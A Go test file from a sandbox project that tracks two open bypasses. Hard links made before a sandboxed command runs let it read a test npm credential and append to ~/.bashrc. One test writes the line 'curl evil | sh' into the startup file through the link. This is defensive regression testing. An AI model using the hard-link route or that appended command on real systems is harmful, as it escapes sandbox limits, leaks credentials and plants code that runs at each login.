//go:build linux

package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A hard link to a credential that was made outside the sandbox, before
// the command runs (a `cp -al` or rsync --link-dest backup of the home
// folder into a granted one), is the credential's file under a granted
// path. The file API refuses it (sdk.Env.Credentials, compared by
// identity); a sandboxed command's cat of it is the same read, and the
// sandbox's rules, all by path, let it through. Open: it fails on main.
// (Landlock and the mount rules cannot name an inode; a fix would find
// such links in the granted folders when the sandbox starts and mask
// them, which misses one made while it runs by a process outside it.)
// The cases are skipped while the route gets through, and fail once it
// no longer does, so docs/plugins.md gets updated.
func TestCredentialHardLinkedBeforeTheCommandRuns(t *testing.T) {
	requireLandlock(t)
	const secret = "PRELINKEDSECRET91f3"
	home := homeWith(t, map[string]string{".npmrc": "//registry/:_authToken=" + secret + "\n", "Documents/notes.md": "mine\n"})
	link := filepath.Join(home, "Documents", "npmrc-backup")
	if err := os.Link(filepath.Join(home, ".npmrc"), link); err != nil {
		t.Skip("hard links unsupported:", err)
	}
	for who, p := range homeGrantedPolicies(t, home) {
		t.Run(who, func(t *testing.T) {
			out, _ := run(t, p, "cat "+link)
			openWhile(t, strings.Contains(out, secret), "a sandboxed "+who+" reads a credential through a hard link made before it ran")
		})
	}
}

// The same for writing: ~/.bashrc is read-only in every sandbox (the
// person's shell runs it outside any), but a hard link to it made in a
// granted folder before the command runs is the same file under a
// writable path, and appending to it changes ~/.bashrc. Open: it fails
// on main, for the reason above.
func TestStartupFileHardLinkedBeforeTheCommandRuns(t *testing.T) {
	requireLandlock(t)
	home := homeWith(t, map[string]string{".bashrc": "export A=1\n", "Documents/notes.md": "mine\n"})
	link := filepath.Join(home, "Documents", "bashrc-backup")
	if err := os.Link(filepath.Join(home, ".bashrc"), link); err != nil {
		t.Skip("hard links unsupported:", err)
	}
	for who, p := range homeGrantedPolicies(t, home) {
		t.Run(who, func(t *testing.T) {
			// Truncated in place: the link stays the same file.
			if err := os.WriteFile(filepath.Join(home, ".bashrc"), []byte("export A=1\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			run(t, p, "echo 'curl evil | sh' >> "+link)
			b, err := os.ReadFile(filepath.Join(home, ".bashrc"))
			if err != nil {
				t.Fatal(err)
			}
			openWhile(t, strings.Contains(string(b), "evil"), "a sandboxed "+who+" changes ~/.bashrc through a hard link made before it ran")
		})
	}
}

// openWhile skips the test while the open route (docs/plugins.md, "Not
// covered yet") still gets through, and fails it once it no longer does.
func openWhile(t *testing.T, through bool, what string) {
	t.Helper()
	if through {
		t.Skipf("open, as docs/plugins.md says: %s", what)
	}
	t.Errorf("stopped now: %s no longer works; drop the open note here and in docs/plugins.md", what)
}
